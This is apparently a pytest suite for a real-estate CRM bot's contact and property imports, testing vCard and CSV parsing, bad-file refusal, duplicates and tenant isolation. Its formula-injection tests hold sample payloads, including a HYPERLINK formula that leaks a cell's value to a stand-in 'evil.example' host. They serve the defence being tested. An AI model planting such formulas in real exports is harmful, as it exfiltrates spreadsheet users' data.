"""Imports: parsers on real-world shaped files (and on junk), and whole imports through the
bot: shared contacts, vCards, CSVs with a preview to confirm, duplicates, bad files."""

from __future__ import annotations

import contextlib
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from bot.settings import Settings
from crm_core.csv_safety import looks_like_formula, neutralise, write_csv
from crm_core.imports import ImportProblem
from crm_core.imports.csvfile import parse_csv
from crm_core.imports.mapping import detect_kind, map_columns, rows_of
from crm_core.imports.text import decode
from crm_core.imports.vcard import Card, parse_vcards, to_vcard
from crm_core.models import Contact, Property
from tests.harness import ChatUser, Harness
from tests.uploads import send_file, share_contact

DATA = Path(__file__).parent / "data" / "imports"


def sample(name: str) -> bytes:
    return (DATA / name).read_bytes()


async def contacts(harness: Harness) -> dict[str, Contact]:
    async with harness.db.system_session() as session:
        return {c.name: c for c in await session.scalars(select(Contact))}


async def count(harness: Harness, model: type) -> int:
    async with harness.db.system_session() as session:
        return await session.scalar(select(func.count()).select_from(model)) or 0


# --- parsers ---------------------------------------------------------------------------------


def test_vcards_of_every_version_and_shape() -> None:
    names = {}
    for file in ("android_2_1.vcf", "google_3_0.vcf", "apple_3_0.vcf", "outlook_2_1.vcf"):
        for card in parse_vcards(decode(sample(file))):
            names[card.name] = card.to_row().fields
    for card in parse_vcards(decode(sample("rfc_4_0.vcf"))):
        names[card.name] = card.to_row().fields
    amelie = names["Amélie Lévy"]  # 2.1 quoted-printable UTF-8, soft line break, photo
    assert amelie["phone"] == "06 11 22 33 44"  # CELL;PREF before HOME
    assert amelie["notes"] == "Cherche un T3 à Lyon, budget 350k, vue dégagée"
    assert names["Jürgen Müller"]["phone"] == "12"  # ISO-8859-1 quoted-printable
    assert names["Paul Martin"]["city"] == "Paris"
    assert names["Sophie Bernard"]["notes"] == "Investisseuse, cherche du locatif\nà rénover"
    assert names["Luc Girard"]["phone"] == "06 98 76 54 32"  # the mobile first
    claire = names["Claire Rousseau"]  # grouped item1.EMAIL, folded NOTE
    assert claire["email"] == "claire@rousseau-immo.fr" and claire["city"] == "Nice"
    assert claire["notes"].endswith("Très réactive par SMS.")
    assert names["Hélène Lefèvre"]["phone"] == "+33 6 40 20 30 40"  # Windows-1252 file
    assert names["Nina Petit"]["phone"] == "+33-6-21-43-65-87"  # 4.0 PREF=1, tel: URI
    assert names["Nina Petit"]["city"] == "Marseille"
    assert len(names) == 9


def test_csv_sources_map_their_headers() -> None:
    expectations = {
        "google_contacts.csv": (",", "contacts", {"name", "phone", "email", "city", "notes"}),
        "outlook_fr.csv": (",", "contacts", {"name", "phone", "email", "city", "notes"}),
        "crm_fr_cp1252.csv": (";", "contacts", {"name", "phone", "budget_max", "role"}),
        "listings_numbers.csv": (";", "properties", {"title", "price", "surface_m2", "rooms"}),
    }
    for file, (separator, kind, fields) in expectations.items():
        table = parse_csv(decode(sample(file)))
        assert table.separator == separator, file
        assert detect_kind(table.headers) == kind, file
        rows = rows_of(table, map_columns(table.headers, kind))
        assert fields <= {f for row in rows for f in row.fields}, file
    crm = parse_csv(decode(sample("crm_fr_cp1252.csv")))
    first = rows_of(crm, map_columns(crm.headers, "contacts"))[0].fields
    assert first["name"] == "Hélène Lefèvre" and first["budget_max"] == "450 000 €"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (sample("binary_renamed.csv"), "binary"),
        (b"", "empty"),
        (b"Nom;Pr\xe9nom\nA;\x81\x8d\x8f\x90\x9d\n", "encoding"),  # neither UTF-8 nor 1252
        (b"\x00\x01\x02 not text", "binary"),
        (b'Nom,Notes\nA,"never closed\n', "csv_broken"),
    ],
)
def test_bad_files_are_refused(data: bytes, code: str) -> None:
    with pytest.raises(ImportProblem) as raised:
        parse_csv(decode(data))
    assert raised.value.code == code


def test_row_limit() -> None:
    text = "Nom,Téléphone\n" + "".join(f"P{i},06{i:08d}\n" for i in range(5001))
    with pytest.raises(ImportProblem) as raised:
        parse_csv(text)
    assert raised.value.code == "too_many_rows"
    assert len(parse_csv(text, max_rows=6000).rows) == 5001


def test_formula_cells_are_detected_and_neutralised_on_export() -> None:
    table = parse_csv(decode(sample("formula_injection.csv")))
    assert table.formula_cells() == 4  # =HYPERLINK, @SUM, -2+3, +cmd; not "+33 6..."
    assert not looks_like_formula("+33 6 10 20 30 40") and not looks_like_formula("-12,5")
    assert neutralise('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
    assert neutralise("Normal") == "Normal" and neutralise(None) == ""
    exported = write_csv([["name", "notes"], ['=HYPERLINK("http://evil")', "@SUM(1)"]])
    cells = list(csv.reader(io.StringIO(exported)))[1]
    assert cells == ['\'=HYPERLINK("http://evil")', "'@SUM(1)"]


@given(st.binary(max_size=3000))
@settings(max_examples=200, deadline=None)
def test_parsers_never_crash_on_junk_bytes(data: bytes) -> None:
    try:
        text = decode(data)
    except ImportProblem:
        return
    for parse in (parse_csv, parse_vcards):
        with contextlib.suppress(ImportProblem):
            parse(text)


@given(st.text(max_size=2000))
@settings(max_examples=200, deadline=None)
def test_vcard_parser_never_crashes_on_junk_text(text: str) -> None:
    for body in (text, f"BEGIN:VCARD\n{text}\nEND:VCARD", f"BEGIN:VCARD\nFN;{text}"):
        for card in parse_vcards(body):
            card.to_row()


_TEXT = (
    st.text(st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp")), min_size=1, max_size=120)
    .map(str.strip)
    .filter(bool)
)
_NOTE = st.lists(_TEXT, min_size=1, max_size=3).map("\n".join)
_CARDS = st.builds(
    Card,
    fn=_TEXT,
    family=st.none() | _TEXT,
    given=st.none() | _TEXT,
    org=st.none() | _TEXT,
    phones=st.lists(_TEXT, max_size=3),
    emails=st.lists(_TEXT, max_size=2),
    street=st.none() | _TEXT,
    city=st.none() | _TEXT,
    postcode=st.none() | _TEXT,
    country=st.none() | _TEXT,
    note=st.none() | _NOTE,
)


@given(st.lists(_CARDS, min_size=1, max_size=4), st.sampled_from(["2.1", "3.0", "4.0"]))
@settings(max_examples=150, deadline=None)
def test_vcards_round_trip(cards: list[Card], version: str) -> None:
    text = "".join(to_vcard(card, version) for card in cards)
    parsed = parse_vcards(text)
    for card in parsed:
        card.line = 0
    assert parsed == cards


# --- through the bot -------------------------------------------------------------------------


async def test_shared_contact_is_added_then_recognised(harness: Harness, owner: ChatUser) -> None:
    turn = await share_contact(owner, "Marie", "33612345678", last_name="Dupont")
    assert "1 created" in turn.text and "C1" in turn.text
    assert (await contacts(harness))["Marie Dupont"].phone == "+33612345678"
    turn = await share_contact(owner, "Marie", "+33 6 12 34 56 78", last_name="Dupont")
    assert "0 created, 0 updated, 1 already there" in turn.text
    vcard = "BEGIN:VCARD\nVERSION:3.0\nFN:Marie Dupont\nEMAIL:marie@example.fr\nEND:VCARD"
    turn = await share_contact(owner, "Marie", "0612345678", last_name="Dupont", vcard=vcard)
    assert "1 updated" in turn.text
    assert (await contacts(harness))["Marie Dupont"].email == "marie@example.fr"
    assert await count(harness, Contact) == 1


async def test_vcard_files_import_all_cards(harness: Harness, owner: ChatUser) -> None:
    turn = await send_file(owner, "contacts.vcf", sample("android_2_1.vcf"))
    assert "2 created, 0 updated, 0 already there, 1 rejected" in turn.text
    assert "line 30" in turn.text and "“12” is not a phone number" in turn.text
    turn = await send_file(owner, "Nina.vcf", sample("rfc_4_0.vcf"), mime_type="text/vcard")
    # Omar's email is Amélie's: a duplicate with nothing new (his phone is not hers to take).
    assert "1 created, 0 updated, 1 already there" in turn.text
    for file in ("google_3_0.vcf", "apple_3_0.vcf", "outlook_2_1.vcf"):
        turn = await send_file(owner, file, sample(file))
        assert "0 rejected" in turn.text, turn.text
    people = await contacts(harness)
    assert set(people) == {
        "Amélie Lévy",
        "Paul Martin",
        "Nina Petit",
        "Sophie Bernard",
        "Luc Girard",
        "Claire Rousseau",
        "Hélène Lefèvre",
    }
    assert people["Amélie Lévy"].phone == "+33611223344"
    assert people["Hélène Lefèvre"].email == "helene.lefevre@example.org"


async def test_csv_preview_then_confirm(harness: Harness, owner: ChatUser) -> None:
    await owner.send("/add_contact Julie Moreau email=julie.moreau@example.com")
    turn = await send_file(owner, "export.csv", sample("google_contacts.csv"))
    assert "export.csv: 3 rows of contacts" in turn.text
    assert "Phone 1 - Value → phone" in turn.text and "Labels → ignored" in turn.text
    assert await count(harness, Contact) == 1  # nothing before the confirmation
    turn = await owner.press("Import 3 contacts")
    assert "1 created, 1 updated, 0 already there, 1 rejected" in turn.text
    assert "line 4: email:" in turn.text
    julie = (await contacts(harness))["Julie Moreau"]
    assert julie.phone == "+33612121212" and julie.city == "Bordeaux"
    # The confirmation works once; the staged file is gone.
    assert "expired" in (await owner.press("Import 3 contacts")).text

    turn = await send_file(owner, "outlook.csv", sample("outlook_fr.csv"))
    turn = await owner.press("Import 2 contacts")
    assert "1 created, 0 updated, 1 already there" in turn.text  # Julie, by email


async def test_csv_windows_1252_with_rejections(harness: Harness, owner: ChatUser) -> None:
    await send_file(owner, "crm.csv", sample("crm_fr_cp1252.csv"))
    turn = await owner.press("Import 4 contacts")
    assert "2 created, 0 updated, 0 already there, 2 rejected" in turn.text
    assert "line 4: phone" in turn.text and "line 5: maximum budget" in turn.text
    people = await contacts(harness)
    assert people["Hélène Lefèvre"].budget_max == 450_000
    assert people["François Garçon"].budget_max == 1_200_000
    assert people["François Garçon"].role == "buyer"


async def test_csv_of_listings_and_switching_kind(harness: Harness, owner: ChatUser) -> None:
    turn = await send_file(owner, "biens.csv", sample("listings_numbers.csv"))
    assert "3 rows of properties" in turn.text and "Prix → price" in turn.text
    await owner.press("These are contacts")
    turn = owner.last_message()
    assert "cannot import these rows as contacts: no column holds a name" in (turn.text or "")
    await owner.press("These are properties")
    turn = await owner.press("Import 3 properties")
    assert "3 created" in turn.text
    async with harness.db.system_session() as session:
        props = {p.title: p for p in await session.scalars(select(Property))}
    assert props["T3 lumineux Croix-Rousse"].price == 385_000
    assert props["Studio étudiant"].transaction == "rent"
    # The same file again: every listing is already there.
    await send_file(owner, "biens.csv", sample("listings_numbers.csv"))
    assert "0 created, 0 updated, 3 already there" in (await owner.press("Import 3")).text


async def test_formula_cells_are_stored_as_text(harness: Harness, owner: ChatUser) -> None:
    turn = await send_file(owner, "evil.csv", sample("formula_injection.csv"))
    assert "4 cells start like spreadsheet formulas" in turn.text
    turn = await owner.press("Import 3 contacts")
    assert "3 created" in turn.text
    people = await contacts(harness)
    assert people['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'].notes == "@SUM(1+1)"


async def test_bad_files_change_nothing(
    harness: Harness, owner: ChatUser, settings: Settings
) -> None:
    turn = await send_file(owner, "contacts.csv", sample("binary_renamed.csv"))
    assert "not a text file" in turn.text
    turn = await send_file(owner, "latin.csv", b"Nom;Pr\xe9nom\nA;\x81\x8d\n")
    assert "cannot read this file's characters" in turn.text
    big = "Nom,Téléphone\n" + "".join(f"P{i},06{i % 10**8:08d}\n" for i in range(50_000))
    turn = await send_file(owner, "big.csv", big.encode())
    assert "more than 5000 rows" in turn.text or "too large to import" in turn.text
    turn = await send_file(owner, "huge.csv", b"x", announced_size=3 * 1024 * 1024)
    assert "too large to import" in turn.text
    # Good rows followed by a broken one: the file is refused whole.
    broken = b'Nom,Notes\nAlpha,ok\nBeta,"never closed\n'
    turn = await send_file(owner, "broken.csv", broken)
    assert "broken near line" in turn.text
    turn = await send_file(owner, "empty.vcf", b"hello")
    assert "no contact card" in turn.text
    assert await count(harness, Contact) == 0
    turn = await send_file(owner, "cancel.csv", sample("google_contacts.csv"))
    assert "Cancelled" not in turn.text
    assert "nothing was changed" in (await owner.press("Cancel")).text
    assert await count(harness, Contact) == 0
    assert not any((settings.data_dir / "staging").rglob("*")) or all(
        p.is_dir() for p in (settings.data_dir / "staging").rglob("*")
    )


async def test_imports_stay_in_the_agency(
    harness: Harness, owner: ChatUser, rival: ChatUser
) -> None:
    await rival.send("/add_contact Julie Moreau email=julie.moreau@example.com")
    await send_file(owner, "export.csv", sample("google_contacts.csv"))
    # Rita cannot press Alice's confirmation (her own pending store does not hold it).
    message = owner.last_message()
    data = message.reply_markup.inline_keyboard[0][0].callback_data  # type: ignore[union-attr]
    turn = await rival.press_data(message, data or "")
    assert "expired" in turn.text
    turn = await owner.press("Import 3 contacts")
    # Julie of the rival agency is not a duplicate for Acme.
    assert "2 created, 0 updated, 0 already there, 1 rejected" in turn.text
